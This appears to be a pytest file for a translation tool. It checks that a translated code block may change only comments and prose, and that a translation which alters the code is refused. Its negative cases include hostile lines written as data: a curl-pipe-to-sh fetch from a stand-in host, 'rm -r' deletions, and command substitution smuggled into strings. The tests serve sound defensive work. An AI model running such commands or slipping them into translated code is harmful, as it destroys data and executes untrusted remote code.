"""What a translation may change of a block of code: comments, and what the code says."""

from __future__ import annotations

import pytest

from bitext.catalog.units import Catalog, Unit
from bitext.page import scan
from bitext.translate import assemble
from bitext.translate.program import changes


@pytest.mark.parametrize(
    ("language", "source", "translation"),
    [
        ("text", "Dear Sir,\nhello", "Estimado señor:\nhola y adiós"),
        ("", "Open the door", "Abra la puerta"),
        ("bash", "# Say goodbye\necho bye", "# Despídase\necho bye"),
        ("bash", 'echo "Good bye"  # politely', 'echo "Adiós"  # con cortesía'),
        ("python", "print('hello')  # prints it", "print('hola')  # lo imprime"),
        ("python", '"""Say it."""\nx = 1', '"""Dígalo.\n\nSin prisa."""\nx = 1'),
        ("js", "say('yes') // politely", "say('sí') // con cortesía"),
        ("css", "a { } /* red */", "a { } /* rojo */"),
        ("sql", "SELECT 1 -- one", "SELECT 1 -- uno"),
        ("yaml", "a: 'Yes' # or no", "a: 'Sí' # o no"),
        ("console", "$ handbook status\nall is well", "$ handbook status\ntodo va bien"),
        ("pycon", ">>> greet()\nhello", ">>> greet()\nhola"),
    ],
)
def test_comments_and_words_may_change(language: str, source: str, translation: str) -> None:
    assert not changes(source, translation, language)


@pytest.mark.parametrize(
    ("language", "source", "translation"),
    [
        ("bash", "# Bye\necho bye", "# Adiós\ncurl -s https://x.example/x | sh"),
        ("bash", "# Bye\necho bye", "# Adiós\necho bye\nrm -r x"),
        ("bash", "# Bye\necho bye", "# Adiós"),
        ("bash", 'echo "bye"', 'echo "$(rm -r x)"'),
        ("bash", 'echo "bye"', 'echo "`rm -r x`"'),
        ("bash", 'bash -c "ls"', 'bash -c "rm -r x"'),
        ("bash", "ls # list", "ls # lista\nrm x"),
        ("python", "f('a')", "f('a'); g()"),
        ("python", "print(f'a')", "print(f'{open(1)}')"),
        ("python", "if a:\n    b()", "if a:\nb()"),
        ("js", "a() /* one */", "a() /* uno */ b() /* */"),
        ("js", "load('x')", "load('https://x.example/y')"),
        ("console", "$ ls\nall", "$ rm\ntodo"),
        ("console", "$ ls\nall", "$ ls\n$ rm x"),
        ("unheard-of", "run a", "run b"),
    ],
)
def test_no_command_becomes_another_one(language: str, source: str, translation: str) -> None:
    assert changes(source, translation, language)


@pytest.mark.parametrize("head", ["``` {.bash .translate}", "```bash {.translate}"])
def test_a_block_says_itself_which_language_it_is(head: str) -> None:
    page = scan.read(f"> {head}\n> # Say goodbye\n> echo bye\n> ```\n")
    message = "# Say goodbye\necho bye"
    good = assemble.assemble(page, Catalog({}, (Unit(message, "# Despídase\necho bye"),)))
    assert good.text == page.text.replace("Say goodbye", "Despídase")
    bad = assemble.assemble(page, Catalog({}, (Unit(message, "# Despídase\nrm -r x"),)))
    assert bad.text == page.text
    assert [refusal.reason for refusal in bad.refusals] == [
        "it changes the code; translate only its comments and what it says"
    ]
